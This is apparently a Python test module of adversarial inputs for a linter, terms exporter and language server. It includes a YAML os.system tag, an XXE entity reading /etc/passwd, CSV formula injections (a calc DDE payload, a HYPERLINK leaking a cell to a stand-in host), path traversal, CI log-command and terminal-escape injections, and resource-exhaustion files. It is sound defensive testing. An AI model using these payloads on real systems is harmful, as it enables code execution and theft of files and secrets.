"""Terms files, e-books, catalogues and texts of strangers → the lint and the editor's server say what is wrong, and end."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from importlib.util import find_spec
from pathlib import Path

from attempt import Attempt

HOME = Path(str(getattr(find_spec("pamphleteer"), "origin", ""))).parent.parent

GAPS = (
    "- preferred: cramp\n  avoid:\n    - word: freeze "
    + "… " * 24
    + "ankle\n    - word: take [a|the|my] "
    + "[a|the|my] " * 24
    + "knee\n"
)

WORDS = (
    "Knees and ankles. Freeze " + "take a a the my " * 300 + "end. " + "Freeze " + "word " * 400 + "end.\n"
)


def archive(**files: str | bytes) -> bytes:
    """A zip file with these entries; `_` in front stands for an odd name."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as made:
        made.writestr("mimetype", "application/epub+zip")
        for name, text in files.items():
            made.writestr(name, text)
    return stream.getvalue()


CONTAINER = (
    '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container" version="1.0"><rootfiles>'
    '<rootfile full-path="{}" media-type="application/oebps-package+xml"/></rootfiles></container>'
)

PACKAGE = (
    '<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="i"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/">'
    '<dc:identifier id="i">x</dc:identifier><dc:title>T</dc:title><dc:language>en</dc:language></metadata><manifest>'
    '<item id="a" href="{}" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine></package>'
)

PAGE = '<html xmlns="http://www.w3.org/1999/xhtml"><body>{}</body></html>'


def book(name: str, page: str | bytes) -> bytes:
    """An e-book of one page."""
    return archive(
        **{"META-INF/container.xml": CONTAINER.format("p.opf"), "p.opf": PACKAGE.format(name), name: page}
    )


def editor_ends(folder: Path) -> str:
    """Whether the server of an editor is through with each text in a minute."""
    code = (
        "import sys; from pathlib import Path; from pamphleteer.lint.server import findings_in\n"
        "for path in sorted(Path(sys.argv[1]).glob('*.*')):\n    path.suffix in {'.md', '.rst', '.txt'} and findings_in(path.read_text('utf-8'), str(path))\n"
    )
    environment = {**os.environ, "PYTHONPATH": str(HOME)}
    try:
        done = subprocess.run(
            [sys.executable, "-P", "-c", code, str(folder / "edited/in")],
            capture_output=True,
            timeout=60,
            check=False,
            cwd=folder,
            env=environment,
        )
    except subprocess.TimeoutExpired:
        return "the server works on a short text for more than a minute"
    return done.stderr.decode(errors="replace")[-300:] if done.returncode else ""


TERMS = {
    "deep": "[" * 3000,
    "itself": "- &a\n  preferred: x\n  avoid: *a\n",
    "class": "- class: a\n  words: [<a>, '<b>|<a>', '']\n- preferred: x\n  avoid: ['<a> <a>', '[', ']', '[]', '<>', '|', '=', '…', '[…]', '(((', '\\', \"\\0\", 'a|', '||', '[a|]']\n",
    "wide": "- preferred: x\n  avoid:\n" + "".join(f"    - {'|'.join(f'a{n}b{m}' for m in range(300))} {'[x|y] ' * 30}z\n" for n in range(20)),
    "types": "- preferred: [a]\n- preferred: {a: b}\n  avoid: 5\n- 7\n- preferred: null\n  avoid: [null, 1, 2026-11-28, !!binary AAAA]\n  only_when: {sentence: 5, nosuch: [x]}\n  translations: [x]\n",
    "examples": "- preferred: x\n  avoid: [y]\n  wrong: ['" + "y | " * 2000 + "', '# | | #', '|', ' ']\n  right: [\"\\x1b]0;x\\x07::error::y\"]\n",
    "tags": "- !!python/object/apply:os.system ['touch {RAN}']\n- !nosuch {preferred: x, avoid: [y]}\n",
    "merge": "- &b {preferred: x, avoid: [y]}\n- {<<: *b, preferred: z, preferred: w}\n- <<: 5\n",
    "documents": "- preferred: x\n  avoid: [y]\n---\n- preferred: z\n...\n%YAML 3.0\n--- !\n",
    "letters": '- preferred: "\\ud800"\n  avoid: ["\\udfff", "\\0", "a\\u2028b", "\u202ec"]\n  language: ../../x\n  translations: {"\\x1b[8m": {say: [x], avoid: [y]}}\n',
}  # fmt: skip

FORMULAS = (
    '=HYPERLINK("http://e.test/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)

SHEET = "".join(f"- preferred: {json.dumps(form)}\n  definition: {json.dumps(form)}\n  avoid:\n    - word: word{n}x\n" for n, form in enumerate(FORMULAS))  # fmt: skip


def formulas(folder: Path) -> str:
    """Whether a cell of the table is a formula for a program of tables."""
    path = folder / "_build/terms.csv"
    if not path.is_file():
        return ""
    with path.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    wrong = [cell for cell in cells if cell.lstrip("\t\r\n ")[:1] in {"=", "+", "-", "@"} and len(cell) > 1]
    return f"a cell is a formula: {wrong[0]!r}" if wrong else ""


def pipes(folder: Path) -> None:
    """Pipes, a link to nothing, a folder and a link out of the project, called like texts."""
    place = folder / "texts"
    for name in ("pipe.md", "pipe.epub", "pipe.po"):
        os.mkfifo(place / name)
    (place / "folder.md").mkdir()
    (place / "dead.txt").symlink_to("none.txt")
    (place / "out.md").symlink_to(folder.parent / "outside/secret.md")
    (place / "outside").symlink_to(folder.parent / "outside")
    (place / "round").symlink_to(".")


def other_pipes(folder: Path) -> None:
    """Let a text, and the words of another, be pipes that nobody writes into."""
    os.mkfifo(folder / "loose/in/pipe.txt")
    os.mkfifo(folder / "other/in/terms.yml")


OTHER_CONTAINER = '<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="%s" media-type="application/oebps-package+xml"/></rootfiles></container>'

OTHER_PACKAGE = (
    '<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="i"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/">'
    '<dc:identifier id="i">x</dc:identifier><dc:title>T</dc:title><dc:language>en</dc:language></metadata><manifest>%s</manifest><spine>%s</spine></package>'
)

OTHER_PAGE = '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>T</title></head><body>%s</body></html>'

OTHER_WORDS = OTHER_PAGE % ("<p>Rest the the leg for two days, and freeze your ankle.</p>" * 300)


def other_book(
    manifest: str, spine: str, pages: dict[str, str], *, root: str = "p.opf", method: int = 8
) -> bytes:
    """An e-book in bytes; `method` is written over that of each page."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/epub+zip", zipfile.ZIP_STORED)
        archive.writestr("META-INF/container.xml", OTHER_CONTAINER % root)
        archive.writestr("p.opf", OTHER_PACKAGE % (manifest, spine))
        for name, text in pages.items():
            archive.writestr(name, text)
    data = held.getvalue()
    if method != 8:
        for start in (b"PK\x03\x04", b"PK\x01\x02"):
            place = 8 if start == b"PK\x03\x04" else 10
            at = data.rfind(start)
            data = data[: at + place] + method.to_bytes(2, "little") + data[at + place + 2 :]
    return data


ITEM = '<item id="a" href="a.xhtml" media-type="application/xhtml+xml"/>'

BOOKS = {
    "again": other_book(ITEM, '<itemref idref="a"/>' * 20_000, {"a.xhtml": OTHER_WORDS}),
    "items": other_book("".join(f'<item id="a{n}" href="a.xhtml" media-type="application/xhtml+xml"/>' for n in range(3000)),
                  "".join(f'<itemref idref="a{n}"/>' for n in range(3000)), {"a.xhtml": OTHER_WORDS}),
    "method": other_book(ITEM, '<itemref idref="a"/>', {"a.xhtml": OTHER_WORDS}, method=99),
    "lzma": other_book(ITEM, '<itemref idref="a"/>', {"a.xhtml": OTHER_WORDS}, method=14),
    "elsewhere": other_book(ITEM.replace("a.xhtml", "../../../outside/secret.txt"), '<itemref idref="a"/>', {"a.xhtml": OTHER_WORDS}, root="../../p.opf"),
    "nested": other_book(ITEM, '<itemref idref="a"/>', {"a.xhtml": OTHER_PAGE % ("<i>" * 240 + "x" + "</i>" * 240 + "<table>" * 250 + "<tr><td>x")}),
    "entities": other_book(ITEM, '<itemref idref="a"/>', {"a.xhtml": '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y "&x;&x;">]>' + OTHER_PAGE % "<p>the the &x; &y; \x1b]0;x\x07</p>"}),
    "itself": other_book(ITEM.replace("<item ", '<item fallback="a" media-overlay="a" properties="nav" '), '<itemref idref="a" linear="no"/>', {"a.xhtml": OTHER_PAGE % "<nav><ol><li><a href='a.xhtml'>x</a></li></ol></nav>"}),
    "lines": other_book(ITEM.replace("a.xhtml", "a%0A::error::x.xhtml"), '<itemref idref="a"/>', {"a\n::error::x.xhtml": OTHER_WORDS}),
}  # fmt: skip

PO: dict[str, str | bytes] = {
    "escapes": 'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=utf-8\\n"\n"Language: de\\n\\n::x: \\033]0;x\\007\\n"\n\n#: /etc/passwd:1 a\u202eb:99999999999999999999\nmsgid "Take 5 mg\\033]0;x\\007\\n::stop-commands::x"\nmsgstr "Nehmen Sie 6 mg\\x1b[8m\\r::error::x\\400\\777\\xff"\n',
    "forms": 'msgid ""\nmsgstr ""\n"Plural-Forms: nplurals=999999999999; plural=(n ? n : n) / 0;\\n"\n\nmsgid "%(n)d leg"\nmsgid_plural "%(n)d legs {a[0].__class__}"\nmsgstr[0] "x"\nmsgstr[99999999999999999999] "%99999999999d {0:>99999999999}"\nmsgstr[-1] "y"\n',
    "long": "".join(f'msgid "a{n} 5 mg 6 mg <b>x</b> [y](z) {{0}} %s"\nmsgstr "{"b 7 mg [" * 40}"\n\n' for n in range(300)),
    "one": 'msgid "' + "5 mg [x](y) <b> {0} %s " * 3000 + '"\nmsgstr "' + "[x](y) 6 mg </b> {1} %d " * 3000 + '"\n',
    "charset": b'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=undefined\\n"\n\nmsgid "a"\nmsgstr "\xff\xfe"\n',
    "shape": 'msgstr "x"\nmsgid\n"a\nmsgctxt "c"\nmsgid_plural "p"\n#~ msgid "old"\n#| msgid "was"\n#, fuzzy, c-format\u2028msgid "x"\nmsgstr[] "y"\nmsgid "a" "b"\n\\\n"\\"\n',
    "allow": "# allow po-number: \x1b[8m::x\n# allow nosuch:\n# allow po-term: " + "x" * 9000 + '\nmsgid "5 mg"\nmsgstr "6 mg"\n',
}  # fmt: skip


def message(value: object, *, length: str = "") -> bytes:
    """A message of the protocol."""
    body = value if isinstance(value, bytes) else json.dumps(value).encode()
    return b"Content-Length: " + (length or str(len(body))).encode() + b"\r\n\r\n" + body


def call(method: str, number: object = None, **params: object) -> bytes:
    """A request, or a notice."""
    return message(
        {"jsonrpc": "2.0", "method": method, "params": params} | ({} if number is None else {"id": number})
    )


def opened(uri: str, text: str) -> bytes:
    """An editor opens a text."""
    return call(
        "textDocument/didOpen",
        textDocument={"uri": uri, "languageId": "markdown", "version": 1, "text": text},
    )


ODD = (
    "untitled:x",
    "file:///proc/self/environ",
    "file:///%00/a.md",
    "http://127.0.0.1:9/a.md",
    "",
    "file://host/share/a.md",
    "file:///a/%ff.md",
    "javascript:x",
)


def told_of(uri: str) -> bytes:
    """What an editor says of a text at this address."""
    place, far = {"line": 0, "character": 0}, {"line": 2**31 - 1, "character": 2**31 - 1}
    talk = opened(uri, "# A\ud800\n\nRest the the leg \udfff, freeze your ankle.\n")
    talk += call(
        "textDocument/codeAction",
        f"c{uri}",
        textDocument={"uri": uri},
        range={"start": place, "end": far},
        context={"diagnostics": []},
    )
    talk += call("textDocument/hover", f"h{uri}", textDocument={"uri": uri}, position=far)
    talk += call(
        "textDocument/didChange",
        textDocument={"uri": uri, "version": 2},
        contentChanges=[{"range": {"start": far, "end": place}, "text": "x"}],
    )
    talk += call("textDocument/didClose", textDocument={"uri": uri})
    return talk


def served(folder: Path) -> str:
    """Whether the server still answers after all of these."""
    place = {"line": 0, "character": 0}
    talk = call(
        "initialize",
        1,
        processId=None,
        rootUri="file:///proc/self",
        capabilities={"general": {"positionEncodings": ["utf-32", "x"]}},
    )
    talk += call("initialized")
    for uri in (*ODD, f"file://{folder}/book/a%0a.rst"):
        talk += told_of(uri)
    talk += opened("file:///x/deep.md", "> " * 3000 + "x") + opened(
        "file:///x/deep.rst", "\n\n".join(" " * n + "x" for n in range(600))
    )
    talk += call("textDocument/hover", "none", textDocument={"uri": "file:///never"}, position=place)
    talk += (
        message({"jsonrpc": "2.0", "id": {}, "method": 5})
        + message([])
        + message(b"[" * 9000)
        + message(b"\xff")
        + message(b"")
    )
    last = call("textDocument/hover", "last", textDocument={"uri": "file:///x/deep.md"}, position=place)
    done = subprocess.run(
        [sys.executable, "-m", "pamphleteer", "lsp"],
        cwd=folder,
        input=talk + last + call("shutdown", "end") + call("exit"),
        capture_output=True,
        check=False,
        timeout=100,
    )
    if b'"last"' not in done.stdout:
        return f"the server does not answer any more: {done.stderr[-300:]!r}"
    return (
        ""
        if b"AWS_" not in done.stdout and b"PATH=" not in done.stdout
        else "the server shows the environment"
    )


ATTEMPTS: tuple[Attempt, ...] = (
    Attempt(
        "gaps-without-end",
        "lint-and-editor",
        "writes words to avoid with so many gaps and choices that a text is searched for them in endless ways",
        {
            "book/terms.yml": GAPS,
            "book/chapter.md": f"# Chapter\n\n{WORDS}\n",
            "edited/in/terms.yml": GAPS,
            "edited/in/a.md": WORDS,
        },
        (("terms", "check"), ("lint", "book/chapter.md")),
        shares=False,
        holds=editor_ends,
    ),
    Attempt(
        "terms-deep-within-each-other",
        "lint-and-editor",
        "nests a terms file and a file of settings of a table of terms deeper than a reader follows",
        {
            "book/terms.yml": "[" * 20_000,
            "edited/in/terms.yml": "- preferred: " + "{a: " * 5_000,
            "edited/in/a.md": "Words.\n",
            "deep.tbx": "<tbx>" + "<text>" * 5_000,
            "deep.yml": "- &a [*a, *a]\n- preferred: *a\n  ? [[], {}]\n  : x\n",
        },
        (
            ("lint",),
            ("terms", "check"),
            ("terms", "check", "deep.yml"),
            ("terms", "export", "_build/x.tbx"),
            ("terms", "import", "deep.tbx"),
        ),
        shares=False,
        holds=editor_ends,
    ),
    Attempt(
        "books-with-odd-entries",
        "lint-and-editor",
        "brings e-books whose entries have names that conceal, and pages of no text, of endless depth and of other encodings",
        {
            "a.epub": archive(**{"../\x1b[8m hidden": "x"}),
            "b.epub": book("a.xhtml", b"\xff\xfe<\0h\0t\0m\0l\0>\0"),
            "c.epub": book("a.xhtml", PAGE.format("<i>" * 900 + "x" + "</i>" * 900)),
            "d.epub": book(
                "a.xhtml",
                PAGE.format("<p>Words words.</p>").replace(
                    "<html", "<!DOCTYPE html SYSTEM '{SERVER}/x.dtd'><html"
                ),
            ),
            "e.epub": archive(**{"META-INF/container.xml": CONTAINER.format("../../outside/secret.txt")}),
            "f.epub": archive(
                **{
                    "META-INF/container.xml": CONTAINER.format("p.opf"),
                    "p.opf": PACKAGE.format("\x1b[8m::add-mask::x"),
                }
            ),
            "g.epub": book("a.xhtml", b""),
            "h.epub": book("a.xhtml", b"<!-- -->"),
        },
        tuple(("lint", f"{name}.epub") for name in "abcdefgh"),
        shares=False,
    ),
    Attempt(
        name="terms-that-contain-themselves",
        kind="lint-and-editor",
        tries="Terms files are nested, refer to themselves, hold values of every type, and patterns that are none or thousands.",
        files={
            **{f"texts/{name}/terms.yml": text for name, text in TERMS.items()},
            **{f"texts/{name}/a.txt": "Rest the leg x y z a0b0 for two days.\n" for name in TERMS},
        },
        commands=tuple(
            words
            for name in TERMS
            for words in (("terms", "check", f"texts/{name}/terms.yml"), ("lint", f"texts/{name}"))
        ),
        shares=False,
    ),
    Attempt(
        name="table-of-formulas",
        kind="lint-and-editor",
        tries="Terms begin as formulas do: exported as a table, they act in the program of tables that a translator opens it with.",
        files={"book/terms.yml": SHEET},
        commands=(("terms", "export", "_build/terms.csv"),),
        prepare=lambda folder: (folder / "_build").mkdir(exist_ok=True),
        shares=False,
        holds=formulas,
    ),
    Attempt(
        name="texts-that-are-pipes-and-links",
        kind="lint-and-editor",
        tries="A folder of texts holds pipes, a folder with the name of a text, and links out of it: the lint waits, ends, or shows what is elsewhere.",
        files={"texts/a.md": "# A\n\nRest the the leg for two days.\n"},
        commands=(("lint", "texts"), ("lint", "--diff", "texts"), ("lint", "--against", "texts", "book")),
        prepare=pipes,
        shares=False,
    ),
    Attempt(
        "pipes-among-texts",
        "lint-and-editor",
        "lets a text, and the terms file beside another, be pipes, which make wait who opens them",
        {"loose/in/a.txt": "Words.\n", "other/in/b.md": "# B\n\nWords.\n"},
        (
            ("lint", "loose/in"),
            ("lint", "other/in"),
            ("terms", "check", "other/in/terms.yml"),
            ("drift", "loose/in/a.txt", "loose/in/pipe.txt"),
        ),
        prepare=other_pipes,
        shares=False,
    ),
    Attempt(
        "texts-that-an-editor-reads",
        "lint-and-editor",
        "opens texts in an editor that include others, nest deeply, or repeat what rules look for a thousand times",
        {
            "edited/in/a.rst": "A\n=\n\n.. include:: /etc/passwd\n.. include:: ../../outside/secret.txt\n.. raw:: html\n   :file: /etc/passwd\n\n"
            ".. csv-table::\n   :file: ../../outside/secret.csv\n\n" + "* a\n\n  " * 3 + "\n",
            "edited/in/b.md": "# B\n\n"
            + "1. " * 300
            + "x\n\n"
            + "> " * 300
            + "y\n\n"
            + "[" * 3000
            + "a](b)\n",
            "edited/in/c.txt": "Dr. A. B. C. " * 6_000
            + "\n\n"
            + "e.g. i.e. etc. " * 6_000
            + "\n\n"
            + "(a (b " * 6_000,
            "edited/in/d.md": "\n".join(f"{'#' * (n % 6 + 1)} A b c {n}" for n in range(2_000))
            + "\n\n"
            + "a–b to c - d 1–2 3-4 " * 6_000,
            "edited/in/e.md": "Take "
            + "1/2 " * 8_000
            + "mg\n\n"
            + "10 mg to " * 8_000
            + "\n\n"
            + "https://a.b/" * 8_000
            + "\n\n"
            + "A.B.C." * 8_000,
            "edited/in/f.rst": "\n".join(f"{' ' * n}* x\n" for n in range(0, 400, 2)),
        },
        (("lint", "edited/in"),),
        shares=False,
        holds=editor_ends,
    ),
    Attempt(
        name="e-books-that-repeat-and-lie",
        kind="lint-and-editor",
        tries="An e-book lists one page twenty thousand times, names what is not in it, packs by no known method, or nests in itself.",
        files={f"texts/{name}.epub": data for name, data in BOOKS.items()},
        commands=(
            *(("lint", f"texts/{name}.epub") for name in BOOKS),
            ("lint", "--against", "texts", "book"),
        ),
        shares=False,
    ),
    Attempt(
        name="catalogues-that-lie",
        kind="lint-and-editor",
        tries="Catalogues have escapes, forms without number, entries out of order, encodings that are none, and one text of 60,000 letters.",
        files={f"texts/{name}.po": text for name, text in PO.items()},
        commands=tuple(("lint", f"texts/{name}.po") for name in PO),
        shares=False,
    ),
    Attempt(
        name="editor-that-sends-anything",
        kind="lint-and-editor",
        tries="An editor opens half letters at odd addresses, asks for places beyond all lines, and sends messages that are none.",
        commands=(),
        shares=False,
        holds=served,
    ),
)
